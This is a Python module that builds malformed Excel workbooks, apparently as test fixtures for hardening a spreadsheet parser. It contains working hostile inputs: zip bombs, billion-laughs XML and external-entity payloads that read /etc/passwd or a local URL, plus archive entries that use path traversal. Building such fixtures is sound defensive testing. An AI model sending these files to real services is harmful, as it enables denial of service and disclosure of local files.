"""Files made to hurt whoever opens them. Each is small; what it unpacks to is not."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
TAIL = "</sheetData></worksheet>"
WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>'
)
ROOT = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)


def text_row(number: int, *texts: str) -> str:
    cells = "".join(
        f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for place, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


def workbook(sheet: str | None = None, more: dict[str, bytes] | None = None) -> bytes:
    """A workbook whose first sheet is this XML; `more` are further entries of the archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        parts = {"[Content_Types].xml": TYPES, "_rels/.rels": ROOT, "xl/workbook.xml": WORKBOOK,
                 "xl/_rels/workbook.xml.rels": RELATIONS,
                 "xl/worksheets/sheet1.xml": sheet or HEAD + text_row(1, "code", "name") + TAIL}
        for name, text in parts.items():
            archive.writestr(name, text)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def _zeros(size: int, letter: bytes = b" ") -> bytes:
    """`size` bytes of one letter, deflated: one packed piece, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(letter * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * (size >> 20) + packer.flush()


def _raw_archive(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """An archive of (name, deflated content, size it says, times it is listed), all sizes and sums as given."""
    out, directory, listed = io.BytesIO(), io.BytesIO(), 0
    for name, packed, size, times in entries:
        where, encoded = out.tell(), name.encode()
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), size, len(encoded), 0))
        out.write(encoded + packed)
        for n in range(times):
            called = encoded if n == 0 else encoded + str(n).encode()
            directory.write(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), size, len(called),
                                        0, 0, 0, 0, 0, where) + called)
            listed += 1
    where = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, listed, listed, directory.tell(), where, 0))
    return out.getvalue()


def deflated(text: str) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(text.encode()) + packer.flush()


def _around(sheet: bytes, said: int, times: int = 1, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    plain = {"[Content_Types].xml": TYPES, "_rels/.rels": ROOT, "xl/workbook.xml": WORKBOOK,
             "xl/_rels/workbook.xml.rels": RELATIONS}
    if name != "xl/worksheets/sheet1.xml":
        plain["xl/worksheets/sheet1.xml"] = HEAD + text_row(1, "code", "name") + TAIL
    return _raw_archive([(key, deflated(text), len(text.encode()), 1) for key, text in plain.items()]
                        + [(name, sheet, said, times)])


LAUGHS = '<!DOCTYPE lolz [<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>'
NET = '<!DOCTYPE x [<!ENTITY out SYSTEM "http://127.0.0.1:9/secret"> <!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>'


def with_entity(doctype: str, entity: str) -> bytes:
    body = HEAD.replace("?>\n", f"?>\n{doctype}", 1) + text_row(1, "code", "name", "zone")
    return workbook(body + text_row(2, "bomb", f"&{entity};", "north") + TAIL)


#: The names of the tricks, known before the files are made.
NAMES = (
    "3 GB of spaces in a sheet",
    "3 GB that says it is 10 bytes",
    "3 GB of shared strings",
    "one entry listed 60,000 times",
    "an archive in an archive in place of a sheet",
    "a cell at the far corner",
    "a million columns said twice",
    "billion laughs",
    "external entity of a file",
    "external entity of the network",
    "shared string 4 thousand million",
    "tags 100,000 deep",
    "a sheet that is not XML",
    "a workbook of nothing",
    "an archive cut in half",
    "a workbook that points to a file outside",
)


def workbooks() -> dict[str, bytes]:
    """Every bomb by the name of its trick."""
    big = 3 << 30
    packed = _zeros(big)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (50 << 20))
    return {
        "3 GB of spaces in a sheet": _around(packed, big & 0xFFFFFFFF),
        "3 GB that says it is 10 bytes": _around(packed, 10),
        "3 GB of shared strings": _around(packed, 10, name="xl/sharedStrings.xml"),
        "one entry listed 60,000 times": _around(_zeros(8 << 20), 8 << 20, 60_000),
        "an archive in an archive in place of a sheet": workbook(inner.getvalue().decode("latin-1")),
        "a cell at the far corner": workbook(
            HEAD + text_row(1, "code", "name") + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + TAIL),
        "a million columns said twice": workbook(HEAD + '<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>' + TAIL),
        "billion laughs": with_entity(LAUGHS, "l9"),
        "external entity of a file": with_entity(OUTSIDE, "out"),
        "external entity of the network": with_entity(NET, "out"),
        "shared string 4 thousand million": workbook(
            HEAD + '<row r="1"><c r="A1" t="s"><v>4294967295</v></c></row>' + TAIL),
        "tags 100,000 deep": workbook(HEAD + "<row>" * 100_000 + TAIL),
        "a sheet that is not XML": workbook("\x00\x01 <<<>>> &&&"),
        "a workbook of nothing": workbook("<worksheet/>"),
        "an archive cut in half": workbook()[:400],
        "a workbook that points to a file outside": workbook(None, {
            "xl/_rels/../../../../etc/passwd": b"root", "../../evil.xml": b"<x/>"}),
    }
